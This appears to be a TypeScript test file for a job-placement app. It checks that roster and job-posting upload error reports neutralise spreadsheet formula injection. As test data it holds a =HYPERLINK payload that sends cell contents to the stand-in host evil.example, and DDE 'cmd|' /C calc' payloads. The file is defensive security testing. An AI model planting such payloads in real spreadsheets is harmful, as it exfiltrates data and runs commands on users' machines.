// Issue 11, item 9: the error reports of the roster and posting uploads are CSV files that
// coordinators and employers open in Excel/WPS. A cell of the uploaded file is echoed into the
// report; one that starts like a formula must come back as text, never as a formula to run.
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { makeResidentId } from "~/domain/resident-id";
import { getI18n } from "~/i18n/i18n";
import { action as uploadAction } from "~/routes/employer/postings-upload";
import { errorReportCsv } from "~/features/imports/index.server";
import { callForAnswer, filePost } from "../setup/api-call";
import { importRows } from "../setup/roster-fixtures";
import { makeCoordinator, makeEmployer } from "../setup/factories";

const PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';
const csv = (rows: string[][]) => new TextEncoder().encode(`\uFEFF${stringify(rows)}`);
/** Every cell of the report, the header line and the BOM left out. */
const cells = (report: string) => (parse(report.replace(/^\uFEFF/, "")) as string[][]).slice(1).flat();

describe("formula injection through upload error reports", () => {
  it("formula injection: a roster cell =HYPERLINK(…) comes back in the error report as text ('=…), not a formula", async () => {
    const coordinator = await makeCoordinator("130624");
    const { errors } = await importRows(
      [
        ["姓名", "身份证号码", "手机号码", "户籍县（市、区）", "技能/工种"],
        ["张三", makeResidentId("130624", "1990-05-17", 11), "13800001111", "阜平县", PAYLOAD],
        ["李四", makeResidentId("130624", "1990-05-17", 12), "13800002222", "@SUM(1+1)*cmd|' /C calc'!A0", ""],
      ],
      coordinator.principal,
    );
    expect(errors.map((e) => e.value)).toEqual(expect.arrayContaining([PAYLOAD])); // the report does echo the cell
    const report = cells(errorReportCsv(errors, getI18n("zh-CN").t));
    expect(report).toContain(`'${PAYLOAD}`);
    expect(report.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });

  it("formula injection: a posting-list cell =HYPERLINK(…) comes back in the downloadable report as text ('=…), not a formula", async () => {
    const { user } = await makeEmployer();
    const list = new File(
      [
        csv([
          ["工种", "岗位名称", "招聘人数", "月薪", "工作地点"],
          [PAYLOAD, "岗位", "1", "6000", "朝阳区"],
          ["保姆", "岗位", "1", "6000", "-1+cmd|' /C calc'!A0"],
        ]),
      ],
      "list.csv",
      { type: "text/csv" },
    );
    const res = (await callForAnswer(uploadAction, filePost("/employer/postings/upload", await user.cookie(), list))) as {
      rejected: number;
      reportCsv: string;
    };
    expect(res.rejected).toBe(2);
    const report = cells(res.reportCsv);
    expect(report).toContain(`'${PAYLOAD}`);
    expect(report.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });
});
